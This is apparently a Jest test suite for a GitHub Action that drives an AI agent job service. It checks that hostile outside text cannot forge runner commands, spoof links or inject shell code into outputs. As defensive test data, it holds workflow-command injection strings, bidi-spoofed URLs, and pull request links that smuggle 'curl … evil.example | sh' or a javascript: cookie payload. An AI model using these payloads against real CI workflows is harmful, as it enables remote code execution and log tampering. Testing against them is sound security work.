// Text from outside never acts on the runner, on a workflow's script or on the reader (the
// contract: The log; Outputs; Issues and conversations). Every field of the job record, error
// bodies, GitHub's error messages, the label, the issue's title and body, the comment and its
// author, and the prompt-file name carry text that, printed raw, would add a mask, stop command
// processing and forge annotations. Each mode and outcome runs a step once; its stdout and
// stderr are replayed as the runner reads them (__fixtures__/runner-log.ts): the only commands
// are the action's own. The outputs hold only what a shell leaves alone, and what a person reads
// (comments, summary) shows invisible characters. Each test has its own emulator and
// GitHub fake.
import { expect, test } from '@jest/globals';
import { expectRequestsFollowGitHubApi } from '../../__fixtures__/github-openapi.js';
import { expectSafelyRendered, render } from '../../__fixtures__/github-render.js';
import { mergedPayload } from '../../__fixtures__/pull-request-payloads.js';
import { replayLog, type Replay } from '../../__fixtures__/runner-log.js';
import { startGitHubFake } from '../../emulator/github-fake.js';
import type { GitHubFakeOptions } from '../../emulator/github-fake.js';
import {
  CREATE_PATH,
  EMULATOR_JOB_ID,
  expectNoKeyInGitHub,
  GET_PATH,
  GH_COMMENTS_PATH,
  GH_LABEL_PATH,
  GH_REACTION_PATH,
  githubEnv,
  issueCommentEvent,
  issuesEvent,
  jobOutput,
  REPO,
  run,
  warningLines,
  withEmulator,
  type ActionResult,
  type Emulator,
  type GitHubFake,
} from './helpers.js';

/**
 * Text that, printed raw, adds `completed` as a mask (every later `completed` in the log becomes
 * `***`), stops command processing, and forges an error, a warning and a notice, in both command
 * forms, with CR, LF, NUL, a line separator, `%0A`, a right-to-left override and a word joiner.
 * `tag` says which field carried it.
 */
function hostile(tag: string): string {
  return (
    `${tag}\n::add-mask::completed\r\n::stop-commands::forgedtoken\r::error::FORGED-ERROR %0A` +
    '::warning::FORGED-WARNING\u0000\u2028::notice::FORGED-NOTICE ##[add-mask]completed ' +
    '##[error]FORGED-LEGACY \u202eevil\u2060'
  );
}

/** How the log shows the start of hostile(tag): one line, the break made visible. */
function shown(tag: string): string {
  return `${tag}\\n::add-mask::completed\\r\\n::stop-commands::forgedtoken`;
}

/** The commands of the action's own making: the key's mask, and its own annotations and debug lines. */
const OWN_COMMANDS = ['add-mask', 'debug', 'warning', 'notice', 'error'];

/**
 * The log as the runner reads it: the key's two masks first, then only the action's own
 * commands, each a line of the toolkit's form, none of them forged; no line of the log starts
 * with text from outside.
 */
function expectOnlyOwnCommands(result: ActionResult, key: string): Replay {
  const replay = replayLog(`${result.stdout}\n${result.stderr}`);
  const explain = `\n--- stdout ---\n${result.stdout}\n--- stderr ---\n${result.stderr}`;
  const tail = key.slice(key.indexOf('_') + 1);
  expect({ masks: replay.masks, explain }).toEqual({ masks: [key, tail], explain });
  for (const command of replay.commands) {
    const own =
      command.form === 'current' &&
      OWN_COMMANDS.includes(command.name) &&
      command.line.startsWith(`::${command.name}::`) &&
      !command.data.startsWith('FORGED');
    expect({ command, own, explain }).toEqual({ command, own: true, explain });
  }
  expect(replay.commands.filter((c) => c.name === 'error').length).toBeLessThanOrEqual(1);
  for (const line of replay.shown) expect(line).not.toMatch(/^\s*(FORGED|::)/);
  // The words of the log are as the action wrote them: none was masked (`completed` least of all).
  expect(replay.shown.join('\n')).not.toContain('***');
  return replay;
}

/** Every output but `job` holds only characters a shell leaves alone, quoted or not. */
function expectShellSafeOutputs(result: ActionResult): void {
  for (const [name, value] of Object.entries(result.outputs)) {
    if (name === 'job') continue;
    expect({ name, value }).toEqual({
      name,
      value: expect.stringMatching(/^[A-Za-z0-9:/._~%+#-]*$/),
    });
  }
}

/** The log shows each tag's hostile text as one line, its breaks visible. */
function expectShown(result: ActionResult, ...tags: string[]): void {
  for (const tag of tags) expect(result.stdout).toContain(shown(tag));
}

/** What a person reads (comments on the thread, the job summary) renders safely: see expectSafelyRendered. */
function expectSafeToRead(result: ActionResult, fake?: GitHubFake, issue?: number): void {
  const links = [...ALLOWED_LINKS, result.outputs['pr-link'] ?? ''];
  if (result.summary) expectSafelyRendered(render(result.summary), { links });
  if (!fake || issue === undefined) return;
  for (const comment of fake.comments(REPO, issue)) {
    if (!comment.body.includes('<!-- agent-job-action')) continue;
    expectSafelyRendered(render(comment.body), {
      links,
      mentions: ['octocat', 'Codertocat'],
    });
  }
}

/** The link the action makes itself besides the pull request's (the pr-link output, added per run): the workflow run. */
const ALLOWED_LINKS = ['https://github.com/acme/docs/actions/runs/4242'];

/** A GitHub fake of the test's own (test), checked against GitHub's API and swept for the key. */
async function withGitHub<T>(
  emu: Emulator,
  body: (fake: GitHubFake) => Promise<T>,
  options: GitHubFakeOptions = {},
): Promise<T> {
  const fake = await startGitHubFake(options);
  try {
    const value = await body(fake);
    expectRequestsFollowGitHubApi(fake.requests);
    expectNoKeyInGitHub(fake, emu.apiKey);
    return value;
  } finally {
    await fake.close();
  }
}

/** Every documented field of the record, and one it does not document, hostile. */
const HOSTILE_RECORD = {
  model: hostile('MODEL'),
  source: { repository: hostile('REPOSITORY'), ref: hostile('REF') },
  createdAt: hostile('CREATED'),
  note: hostile('EXTRA'),
};

test('create, outcome pr: every field of the record, a status and a failed poll’s body are hostile', () =>
  withEmulator(async (emu) => {
    emu.scriptNextJob({
      override: HOSTILE_RECORD,
      polls: [hostile('STATUS'), { status: 'completed', prLink: hostile('PRLINK') }],
    });
    emu.injectFault({
      method: 'GET',
      path: GET_PATH,
      status: 500,
      body: JSON.stringify({ error: hostile('ERRBODY') }),
    });

    const result = await run(emu, { prompt: 'Document it.' });

    expect(result.exitCode).toBe(0);
    expectOnlyOwnCommands(result, emu.apiKey);
    expectShown(result, 'STATUS', 'PRLINK');
    expect(result.stdout).toMatch(/Status check failed \(HTTP 500: ERRBODY/);
    expectShellSafeOutputs(result);
    expect(result.outputs['pr-link']).toBe('');
    expect(warningLines(result)).toEqual([expect.stringMatching(/pr-link output was left empty/)]);
    expect(jobOutput(result)).toMatchObject({ ...HOSTILE_RECORD, prLink: hostile('PRLINK') });
    expectSafeToRead(result);
  }));

test('follow-up, outcome no-pr: a hostile status while the message is taken', () =>
  withEmulator(async (emu) => {
    const id = emu.seedJob({
      activeForMs: 0,
      override: HOSTILE_RECORD,
      followUps: [{ polls: [hostile('STATUS'), { status: 'completed', prLink: null }] }],
    });

    const result = await run(emu, { 'job-id': id, prompt: 'And the other page.' });

    expect(result.exitCode).toBe(0);
    expectOnlyOwnCommands(result, emu.apiKey);
    expectShown(result, 'STATUS');
    expectShellSafeOutputs(result);
    expect(result.outputs).toMatchObject({ 'job-id': id, status: 'completed', 'pr-link': '' });
    expectSafeToRead(result);
  }));

test.each([['failed'], ['archived']] as const)(
  'watch, outcome %s: a hostile status before the end',
  (outcome) =>
    withEmulator(async (emu) => {
      const id = emu.seedJob({ override: HOSTILE_RECORD, polls: [hostile('STATUS'), outcome] });

      const result = await run(emu, { 'job-id': id, 'fail-on': 'failed,archived' });

      expect(result.exitCode).toBe(1);
      expectOnlyOwnCommands(result, emu.apiKey);
      expectShown(result, 'STATUS');
      expectShellSafeOutputs(result);
      expect(result.outputs.status).toBe(outcome);
      expectSafeToRead(result);
    }),
);

test('timeout: a status that stays hostile is `unknown` in the outputs', () =>
  withEmulator(async (emu) => {
    // Hostile from the create's answer on: the outcome is the same whether a loaded machine lets a
    // status check happen within the second or not.
    emu.scriptNextJob({ override: { ...HOSTILE_RECORD, status: hostile('STATUS') } });

    const result = await run(emu, { prompt: 'Document it.', timeout: '1s' });

    expect(result.exitCode).toBe(1);
    expectOnlyOwnCommands(result, emu.apiKey);
    expectShown(result, 'STATUS');
    expectShellSafeOutputs(result);
    expect(result.outputs).toMatchObject({ status: 'unknown', 'timed-out': 'true' });
    expect(jobOutput(result).status).toBe(hostile('STATUS'));
    expectSafeToRead(result);
  }));

test('error: a create refused with a hostile error body', () =>
  withEmulator(async (emu) => {
    emu.injectFault({
      method: 'POST',
      path: CREATE_PATH,
      status: 400,
      body: JSON.stringify({ error: hostile('ERRBODY') }),
    });

    const result = await run(emu, { prompt: 'Document it.' });

    expect(result.exitCode).toBe(1);
    const { commands } = expectOnlyOwnCommands(result, emu.apiKey);
    expect(commands.filter((c) => c.name === 'error')).toEqual([
      expect.objectContaining({ data: expect.stringMatching(/the service said: ERRBODY/) }),
    ]);
  }));

test('error: a redirect to a hostile address, and a hostile job-id that passes the id rule', () =>
  withEmulator(async (emu) => {
    const id = 'j1::add-mask::completed';
    emu.injectFault({
      method: 'GET',
      path: GET_PATH,
      status: 302,
      headers: {
        location: 'https://x.example/ ##[add-mask]completed ::stop-commands::forgedtoken',
      },
    });

    const result = await run(emu, { 'job-id': id });

    expect(result.exitCode).toBe(1);
    const { commands } = expectOnlyOwnCommands(result, emu.apiKey);
    expect(commands.filter((c) => c.name === 'error')).toEqual([
      expect.objectContaining({
        data: expect.stringMatching(/redirect \(302 to https:\/\/x\.example\/ ##\\\[add-mask\]/),
      }),
    ]);
    expect(result.outputs['job-id']).toBe(id);
    expectSafeToRead(result);
  }));

test('cancelled: the run stops mid-wait with hostile text in every field', () =>
  withEmulator(async (emu) => {
    emu.scriptNextJob({ override: HOSTILE_RECORD, polls: [hostile('STATUS')] });

    const result = await run(
      emu,
      { prompt: 'Document it.', timeout: '1m' },
      { signal: { name: 'SIGTERM', whenStdoutMatches: /unknown status/ } },
    );

    expect(result.exitCode).not.toBe(0);
    const { commands } = expectOnlyOwnCommands(result, emu.apiKey);
    expect(commands.filter((c) => c.name === 'error')).toEqual([
      expect.objectContaining({ data: expect.stringMatching(/cancelled/) }),
    ]);
    expectShellSafeOutputs(result);
    expectSafeToRead(result);
  }));

test('a missing prompt-file with a hostile name', () =>
  withEmulator(async (emu) => {
    // An environment variable cannot hold a NUL; the rest of the text can be a file name.
    const result = await run(emu, { 'prompt-file': hostile('FILE').replace('\u0000', '') });

    expect(result.exitCode).toBe(1);
    expectOnlyOwnCommands(result, emu.apiKey);
    expect(emu.requests).toHaveLength(0);
  }));

test('issue labelled: hostile title, body and label; GitHub fails the result comment with a hostile message', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      emu.scriptNextJob({
        override: HOSTILE_RECORD,
        polls: [hostile('STATUS'), { status: 'completed', prLink: hostile('PRLINK') }],
      });
      const label = hostile('LABEL');
      const event = issuesEvent(
        fake,
        {
          number: 7,
          title: `Add logo\u202egnp.exe https://evil.example\u2060.github.com/login ${hostile('TITLE')}`,
          body: hostile('BODY'),
        },
        { label },
      );
      fake.injectFault({
        method: 'POST',
        path: GH_COMMENTS_PATH,
        status: 500,
        body: { message: hostile('GHMESSAGE') },
        times: 1,
        afterHandling: false,
      });

      const result = await run(emu, { 'remove-label': 'true' }, { event, env: githubEnv(fake) });

      expectOnlyOwnCommands(result, emu.apiKey);
      expectShown(result, 'STATUS', 'PRLINK', 'LABEL');
      expect(warningLines(result).join('\n')).toMatch(/GHMESSAGE/);
      expectShellSafeOutputs(result);
      expect(fake.labels(REPO, 7)).toEqual([]);
      expect(fake.requests.some((r) => r.method === 'DELETE' && GH_LABEL_PATH.test(r.path))).toBe(
        true,
      );
      expectSafeToRead(result, fake, 7);
      const texts = fake
        .comments(REPO, 7)
        .filter((c) => c.body.includes('<!-- agent-job-action'))
        .map((c) => render(c.body));
      expect(texts.length).toBeGreaterThan(0);
      const last = texts.at(-1);
      expect(last?.text).toContain(
        'Add logo<U+202E>gnp.exe https://evil.example<U+2060>.github.com/login',
      );
      expect(last?.links.map((l) => l.href)).not.toContain('https://evil.example.github.com/login');
    }),
  ));

test('issue labelled, no comment: GitHub refuses to remove the hostile label with a hostile message', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      emu.scriptNextJob({ override: HOSTILE_RECORD, polls: [hostile('STATUS'), 'failed'] });
      const label = hostile('LABEL');
      const event = issuesEvent(fake, { number: 6, title: hostile('TITLE') }, { label });
      fake.injectFault({
        method: 'DELETE',
        path: GH_LABEL_PATH,
        status: 422,
        body: { message: hostile('GHMESSAGE') },
      });

      const result = await run(
        emu,
        { 'remove-label': 'true', comment: 'false' },
        { event, env: githubEnv(fake) },
      );

      expect(result.exitCode).toBe(1);
      expectOnlyOwnCommands(result, emu.apiKey);
      expectShown(result, 'STATUS');
      expect(warningLines(result)).toEqual([
        expect.stringMatching(/^could not remove the label 'LABEL\\n::add-mask::.*GHMESSAGE/),
      ]);
      expectShellSafeOutputs(result);
    }),
  ));

test('/agent comment: a hostile author is no GitHub login: one line, nothing sent, nothing written', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      const event = issueCommentEvent(
        fake,
        { number: 8, title: hostile('TITLE'), body: hostile('BODY') },
        { body: `/agent ${hostile('COMMENT')}`, association: 'MEMBER' },
      );
      const payload = event.payload as { comment: { user: { login: string } } };
      payload.comment.user.login = hostile('AUTHOR');

      const result = await run(emu, {}, { event, env: githubEnv(fake) });

      expect(result.exitCode).toBe(1);
      const { commands } = expectOnlyOwnCommands(result, emu.apiKey);
      expect(commands.map((c) => c.name)).toEqual(['add-mask', 'add-mask', 'error']);
      expect(result.stdout).not.toContain('AUTHOR');
      expect(emu.requests).toHaveLength(0);
      expect(fake.requests).toHaveLength(0);
    }),
  ));

test('/agent comment: hostile instruction; GitHub fails the reaction with a hostile message', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      emu.scriptNextJob({ override: HOSTILE_RECORD, polls: [hostile('STATUS'), 'completed'] });
      const event = issueCommentEvent(
        fake,
        { number: 8, title: hostile('TITLE'), body: hostile('BODY') },
        { body: `/agent ${hostile('COMMENT')}`, association: 'MEMBER' },
      );
      fake.injectFault({
        method: 'POST',
        path: GH_REACTION_PATH,
        status: 500,
        body: { message: hostile('GHMESSAGE') },
      });

      const result = await run(emu, {}, { event, env: githubEnv(fake) });

      expect(result.exitCode).toBe(0);
      expectOnlyOwnCommands(result, emu.apiKey);
      expectShown(result, 'STATUS');
      expect(warningLines(result).join('\n')).toMatch(/could not react to the comment.*GHMESSAGE/);
      expectShellSafeOutputs(result);
      expect(result.outputs['job-id']).toMatch(EMULATOR_JOB_ID);
      expectSafeToRead(result, fake, 8);
    }),
  ));

test('/agent comment by someone not allowed, with a hostile name: a notice, nothing else', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      const event = issueCommentEvent(
        fake,
        { number: 9 },
        { body: `/agent ${hostile('COMMENT')}`, association: 'NONE' },
      );
      const payload = event.payload as { comment: { user: { login: string } } };
      payload.comment.user.login = hostile('AUTHOR');

      const result = await run(emu, {}, { event, env: githubEnv(fake) });

      expect(result.exitCode).toBe(0);
      const { commands } = expectOnlyOwnCommands(result, emu.apiKey);
      expect(commands.map((c) => c.name)).toEqual(['add-mask', 'add-mask', 'notice']);
      expect(emu.requests).toHaveLength(0);
    }),
  ));

test('docs follow code: a merged pull request with hostile title and body; GitHub fails the file listing with a hostile message', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      const payload = mergedPayload();
      const pr = payload.pull_request as Record<string, unknown>;
      pr.title = hostile('TITLE');
      pr.body = hostile('BODY');
      fake.addPullRequest(REPO, {
        number: 2,
        merged: true,
        files: [{ filename: hostile('FILENAME') }],
      });
      fake.injectFault({
        method: 'GET',
        path: /\/pulls\/2\/files$/,
        status: 502,
        body: { message: hostile('GHMESSAGE') },
        times: 5,
      });

      const result = await run(
        emu,
        {},
        { event: { name: 'pull_request', payload }, env: githubEnv(fake) },
      );

      expect(result.exitCode).toBe(1);
      const { commands } = expectOnlyOwnCommands(result, emu.apiKey);
      expect(commands.filter((c) => c.name === 'error')).toEqual([
        expect.objectContaining({
          data: expect.stringMatching(/could not read pull request #2 .*GHMESSAGE/),
        }),
      ]);
      expect(emu.requests).toHaveLength(0);
      expectSafeToRead(result, fake, 2);
    }),
  ));

test('docs follow code: hostile file names reach the prompt only; the round ends with a pr', () =>
  withEmulator((emu) =>
    withGitHub(emu, async (fake) => {
      emu.scriptNextJob({ override: HOSTILE_RECORD, polls: [hostile('STATUS'), 'completed'] });
      const payload = mergedPayload();
      const pr = payload.pull_request as Record<string, unknown>;
      pr.title = hostile('TITLE');
      pr.body = hostile('BODY');
      fake.addPullRequest(REPO, {
        number: 2,
        merged: true,
        files: [{ filename: hostile('FILENAME'), patch: hostile('PATCH') }],
      });

      const result = await run(
        emu,
        {},
        { event: { name: 'pull_request', payload }, env: githubEnv(fake) },
      );

      expect(result.exitCode).toBe(0);
      expectOnlyOwnCommands(result, emu.apiKey);
      expectShown(result, 'STATUS');
      expectShellSafeOutputs(result);
      expectSafeToRead(result, fake, 2);
    }),
  ));

/** The pull request links of the contract's example: each would run code in `run: gh pr view "${{ … }}"`. */
const LINKS_THAT_RUN_CODE: Array<[string, string]> = [
  [
    'a quote, then a command',
    'https://github.com/o/r/pull/31"; curl -s https://evil.example/x | sh; echo "',
  ],
  ['a command substitution', 'https://github.com/o/r/pull/$(curl -s https://evil.example/x | sh)'],
  ['backquotes', 'https://github.com/o/r/pull/`curl -s https://evil.example/x | sh`'],
  ['a line break', 'https://github.com/o/r/pull/31\ncurl -s https://evil.example/x | sh'],
  ['a javascript: address', 'javascript:alert(document.cookie)'],
];

test.each(LINKS_THAT_RUN_CODE)(
  'a pull request link with %s is withheld from pr-link, with one warning; job keeps it',
  (_name, link) =>
    withEmulator(async (emu) => {
      emu.scriptNextJob({ activeForMs: 100, prLink: link });

      const result = await run(emu, { prompt: 'Document it.' });

      expect(result.exitCode).toBe(0);
      expectOnlyOwnCommands(result, emu.apiKey);
      expectShellSafeOutputs(result);
      expect(result.outputs).toMatchObject({ 'pr-link': '', status: 'completed' });
      expect(jobOutput(result).prLink).toBe(link);
      expect(warningLines(result)).toEqual([
        "the service's pull request link is not a plain https address, so the pr-link output was left empty; the job output has the record exactly as the service sent it",
      ]);
    }),
);

test('a plain pull request link is the pr-link output, with no warning', () =>
  withEmulator(async (emu) => {
    emu.scriptNextJob({ activeForMs: 100, prLink: 'https://github.com/o/r/pull/31' });

    const result = await run(emu, { prompt: 'Document it.' });

    expect(result.exitCode).toBe(0);
    expect(result.outputs['pr-link']).toBe('https://github.com/o/r/pull/31');
    expect(warningLines(result)).toEqual([]);
  }));

test('a comment address from GitHub that is not plain is left out of comment-url', () =>
  withEmulator((emu) =>
    withGitHub(
      emu,
      async (fake) => {
        emu.scriptNextJob({ activeForMs: 100 });
        const event = issuesEvent(fake, { number: 5 });

        const result = await run(emu, {}, { event, env: githubEnv(fake) });

        expect(result.exitCode).toBe(0);
        expect(fake.comments(REPO, 5).length).toBeGreaterThan(0);
        expect(result.outputs['comment-url']).toBe('');
        expectShellSafeOutputs(result);
      },
      { serverUrl: 'https://evil.example/$(id)' },
    ),
  ));
